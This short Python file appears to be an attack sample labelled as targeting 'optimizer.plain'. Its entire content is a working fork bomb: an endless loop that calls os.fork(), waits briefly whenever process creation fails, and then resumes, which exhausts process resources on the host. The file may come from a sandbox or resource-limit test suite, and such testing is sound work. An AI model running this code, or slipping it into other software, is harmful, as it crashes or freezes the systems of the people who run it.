"""Forks for as long as it can."""

# attacks: optimizer.plain

import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)  # the attack itself: it waits for room and goes on
